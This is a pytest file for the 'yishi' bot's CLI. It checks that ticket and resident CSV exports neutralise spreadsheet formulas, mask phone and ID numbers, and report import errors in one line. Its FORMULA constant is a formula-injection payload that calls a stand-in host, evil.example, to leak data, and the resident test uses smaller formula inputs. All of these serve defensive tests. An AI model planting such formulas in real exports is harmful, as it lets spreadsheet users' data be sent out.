"""``yishi export`` and ``yishi residents import`` as an operator runs them: the real
entry point in a subprocess, on real database files, with what Chinese offices produce."""

from __future__ import annotations

import csv
import io
import os
import pty
import socket
import subprocess
import sys
import uuid
from pathlib import Path

from bot.app import Yishi
from bot.demo import seed_demo
from kernel.intents import KeywordClassifier
from kernel.messages import ChatType, Inbound
from storage.migrate import upgrade
from storage.types import utcnow
from tests.cli_runner import yishi
from tests.conftest import Clock, make_settings

FORMULA = '=HYPERLINK("http://evil.example/?leak=1","3号楼楼道灯坏了")'
HEADER = "name,phone,building,unit,room,grid,grid_name,verified,roles\n"


async def _chat_tickets(url: str, *said: str) -> None:
    """Tickets filed in chat by 张阿姨 (by default two: a report that starts with a
    formula (公共设施) and an ordinary one about rubbish (环境卫生))."""
    bot = Yishi(make_settings(url), classifier=KeywordClassifier(), clock=Clock())
    await upgrade(bot.engine)
    await seed_demo(bot.uow)
    for text in said or (
        "我要反映问题",
        FORMULA,
        "3号楼2单元",
        "确认提交",
        "5号楼门口垃圾没人清运",
        "确认提交",
    ):
        message = Inbound(
            "web", "zhang", ChatType.PRIVATE, "zhang", uuid.uuid4().hex, text, utcnow()
        )
        await bot.router.handle(message)
    await bot.stop()


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_ticket_csv_neutralises_formulas_and_hides_a_configured_category(
    tmp_path: Path,
) -> None:
    await _chat_tickets(f"sqlite:///{tmp_path / 'yishi.db'}")
    (tmp_path / "yishi.toml").write_text(
        '[tickets]\nconfidential_categories = ["邻里纠纷", "环境卫生"]\n', encoding="utf-8"
    )
    result = yishi("export", "tickets", "--format", "csv", "--config", "yishi.toml", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = {r["category"]: r for r in _csv(result.stdout)}
    assert set(rows) == {"公共设施", "环境卫生"}, rows
    assert rows["公共设施"]["description"] == "'" + FORMULA, "Excel shows it as text, runs nothing"
    assert rows["公共设施"]["reporter"] == "张阿姨"
    assert rows["环境卫生"]["reporter"] == "（保密）" and rows["环境卫生"]["reporter_phone"] == ""
    assert "张阿姨" not in rows["环境卫生"]["history"]
    assert not any(cell.startswith("=") for row in rows.values() for cell in row.values())

    plain = yishi("export", "tickets", cwd=tmp_path)  # default rule: only 邻里纠纷
    assert plain.stdout.count('"reporter": "张阿姨"') == 2
    assert FORMULA.replace('"', '\\"') in plain.stdout, "JSON lines keep the text exactly"


async def test_a_phone_typed_into_a_report_is_exported_masked(tmp_path: Path) -> None:
    """The walk: 电话13812345678 in a report stood in clear in ``yishi export tickets``
    (csv and jsonl); the export reads the rule's RECORD view, numbers masked."""
    said = "3号楼2单元楼道灯坏了，电话138 1234 5678，身份证110101199003071234"
    await _chat_tickets(f"sqlite:///{tmp_path / 'yishi.db'}", said, "确认提交")
    result = yishi("export", "tickets", "--format", "csv", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    [row] = _csv(result.stdout)
    assert row["description"] == (
        "3号楼2单元楼道灯坏了，电话138****5678，身份证110101********1234"
    ), row
    assert row["location"] == "3号楼2单元", "no digits of the phone read as a room"
    lines = yishi("export", "tickets", cwd=tmp_path)
    assert lines.returncode == 0, lines.stderr
    assert "138****5678" in lines.stdout and "1234 5678" not in lines.stdout
    assert "199003071234" not in lines.stdout


def test_resident_names_are_neutralised_in_csv(tmp_path: Path) -> None:
    register = HEADER + "=1+2,13800000001,1号楼,1单元,101,G01,第一网格,是,\n"
    register += "＠SUM(A1),13800000002,1号楼,1单元,102,G01,第一网格,是,\n"
    (tmp_path / "register.csv").write_text(register, encoding="utf-8")
    assert yishi("residents", "import", "register.csv", cwd=tmp_path).returncode == 0
    exported = yishi("export", "residents", "--format", "csv", cwd=tmp_path)
    assert [r["name"] for r in _csv(exported.stdout)] == ["'=1+2", "'＠SUM(A1)"]


def test_version() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "bot.cli", "--version"], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0 and result.stdout.strip() == "yishi 0.1.0"


def test_export_without_a_database_says_what_to_run(tmp_path: Path) -> None:
    result = yishi("export", "tickets", cwd=tmp_path)
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.strip().splitlines() == [
        "no database at yishi.db: run `yishi db upgrade` (or `yishi run`) first"
    ]
    assert not (tmp_path / "yishi.db").exists(), "reading creates no database"


def test_export_on_an_unmigrated_database_says_what_to_run(tmp_path: Path) -> None:
    import sqlite3

    sqlite3.connect(tmp_path / "yishi.db").close()  # an empty file, never migrated
    result = yishi("export", "topics", cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    [line] = result.stderr.strip().splitlines()
    assert "database schema is at nothing" in line and "run `yishi db upgrade` first" in line
    assert "Traceback" not in result.stderr


def test_import_upgrades_an_unmigrated_database_first(tmp_path: Path) -> None:
    import sqlite3

    sqlite3.connect(tmp_path / "yishi.db").close()
    (tmp_path / "r.csv").write_text(HEADER + "张三,,1号楼,1单元,101,,,是,\n", encoding="utf-8")
    result = yishi("residents", "import", "r.csv", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "imported 1, updated 0, rejected 0" in result.stdout


def test_export_from_an_unreachable_database_is_one_line(tmp_path: Path) -> None:
    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    url = f"postgresql://yishi:secret@127.0.0.1:{port}/yishi"
    result = yishi("export", "tickets", cwd=tmp_path, env={"YISHI_STORAGE__URL": url})
    assert result.returncode == 3
    [line] = result.stderr.strip().splitlines()
    assert line.startswith(f"cannot use the database at postgresql://yishi:***@127.0.0.1:{port}")
    assert "secret" not in result.stderr


def test_unknown_kind_is_one_line_listing_the_kinds(tmp_path: Path) -> None:
    result = yishi("export", "ticket", cwd=tmp_path)
    assert result.returncode == 2
    [line] = result.stderr.strip().splitlines()
    assert line.startswith("unknown export kind 'ticket'; choose from: audit, meetings")
    assert "tickets" in line


def test_a_gbk_register_from_excel_is_imported(tmp_path: Path) -> None:
    """What 「另存为 CSV（逗号分隔）」 writes on a Chinese Windows: GBK, CRLF line ends."""
    register = HEADER + "张三,13800000001,1号楼,1单元,101,G01,第一网格,是,\n"
    register += "李四,13800000003,2号楼,2单元,201,G01,第一网格,否,moderator\n"
    (tmp_path / "excel.csv").write_bytes(register.replace("\n", "\r\n").encode("gbk"))
    result = yishi("residents", "import", "excel.csv", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "imported 2, updated 0, rejected 0" in result.stdout
    exported = yishi("export", "residents", cwd=tmp_path)
    assert '"name": "张三"' in exported.stdout and '"building": "2号楼"' in exported.stdout


def test_a_utf8_register_with_a_bom_is_imported(tmp_path: Path) -> None:
    register = HEADER + "王五,,3号楼,1单元,101,,,是,\n"
    (tmp_path / "bom.csv").write_bytes(register.encode("utf-8-sig"))
    result = yishi("residents", "import", "bom.csv", cwd=tmp_path)
    assert result.returncode == 0 and "imported 1" in result.stdout, result.stderr


def test_a_workbook_instead_of_a_csv_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "register.csv").write_bytes(b"PK\x03\x04" + os.urandom(64))
    result = yishi("residents", "import", "register.csv", cwd=tmp_path)
    assert result.returncode == 2
    assert result.stderr.strip() == (
        "register.csv: 这是 Excel 工作簿（.xlsx），不是 CSV：请在 Excel 中另存为 CSV"
    )


def test_duplicate_and_over_long_rows_are_reported_by_line(tmp_path: Path) -> None:
    register = HEADER
    register += "张三,13800000001,1号楼,1单元,101,G01,第一网格,是,\n"  # line 2
    register += "张三,13800000009,1号楼,1单元,101,G01,第一网格,是,\n"  # line 3: same person
    register += f"{'长' * 65},,1号楼,{'单' * 17},101,,,是,\n"  # line 4: two fields too long
    (tmp_path / "r.csv").write_text(register, encoding="utf-8")
    result = yishi("residents", "import", "r.csv", cwd=tmp_path)
    assert result.returncode == 1
    lines = result.stderr.strip().splitlines()
    assert lines == [
        "r.csv:3: 与第 2 行是同一位居民（张三，1号楼1单元101）："
        "内容不同，请核对后单独导入，本行未导入",
        "r.csv:4: 姓名 name 过长（65 字，最多 64 字）；单元 unit 过长（17 字，最多 16 字）",
    ]
    assert "imported 1, updated 0, rejected 2" in result.stdout
    exported = yishi("export", "residents", cwd=tmp_path)
    assert '"phone": "138****0001"' in exported.stdout, "the first row stands, not the last"


def _on_a_terminal(args: list[str], cwd: Path) -> tuple[int, str, str]:
    """Run with stderr on a pseudo-terminal (stdout piped): what a person at a shell sees."""
    controller, terminal = pty.openpty()
    env = {k: v for k, v in os.environ.items() if not k.startswith("YISHI_")}
    proc = subprocess.Popen(
        [sys.executable, "-m", "bot.cli", *args],
        cwd=cwd,
        stdout=subprocess.PIPE,
        stderr=terminal,
        env=env | {"YISHI_LOG__FORMAT": "text"},
    )
    os.close(terminal)
    seen = b""
    while True:
        try:
            chunk = os.read(controller, 4096)
        except OSError:
            break
        if not chunk:
            break
        seen += chunk
    out, _ = proc.communicate(timeout=120)
    os.close(controller)
    return proc.returncode, out.decode(), seen.decode(errors="replace")


def test_progress_on_a_terminal_and_none_in_a_pipe(tmp_path: Path) -> None:
    rows = "".join(f"居民{i},,{i % 9 + 1}号楼,1单元,{i},,,是,\n" for i in range(300))
    (tmp_path / "r.csv").write_text(HEADER + rows, encoding="utf-8")
    status, out, terminal = _on_a_terminal(["residents", "import", "r.csv"], tmp_path)
    assert status == 0 and "imported 300" in out
    assert "导入 r.csv: " in terminal and "300/300 行" in terminal, terminal

    status, out, terminal = _on_a_terminal(["export", "residents"], tmp_path)
    assert status == 0 and len(out.splitlines()) == 300
    assert "导出 residents: 300 行" in terminal, terminal

    piped = yishi("export", "residents", cwd=tmp_path)
    assert piped.stderr == "" and len(piped.stdout.splitlines()) == 300
